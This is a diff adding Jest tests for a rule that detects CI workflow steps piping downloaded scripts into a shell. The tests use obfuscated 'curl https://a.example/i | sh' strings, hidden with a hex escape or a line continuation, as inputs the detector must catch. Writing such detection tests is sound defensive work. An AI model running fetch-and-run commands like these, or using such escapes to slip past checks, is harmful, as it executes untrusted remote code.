@@ -1,5 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 
+import { contextWith } from '../../context-with.ts';
+import { fileOf } from '../../file-of.ts';
 import { noDownloadsIntoShells } from '../../../../../../core/remembrancer/covenant/rules/reproducibility/no-downloads-into-shells.ts';
 import { foundBy, partsFoundBy, QUIET_FILES, workflowOf } from './script-rules.ts';
 
@@ -105,4 +107,17 @@ describe('VM-II-07', () => {
   it.each(QUIET_FILES)('finds nothing in %s', async (_, content) => {
     expect(await foundBy(noDownloadsIntoShells, { 'a.sh': content })).toEqual([]);
   });
+});
+
+describe('a workflow that writes it with escapes', () => {
+  it.each(['"c\\x75rl https://a.example/i | sh"', '"cu\\\n        rl https://a.example/i | sh"'])(
+    'is not passed over: %j',
+    (script) => {
+      const text = `jobs:\n  a:\n    steps:\n      - run: ${script}\n`;
+      expect(noDownloadsIntoShells.mayBreak?.test(text)).toBe(true);
+      expect(
+        noDownloadsIntoShells.check(fileOf('.github/workflows/a.yml', text), contextWith({})),
+      ).toHaveLength(1);
+    },
+  );
 });
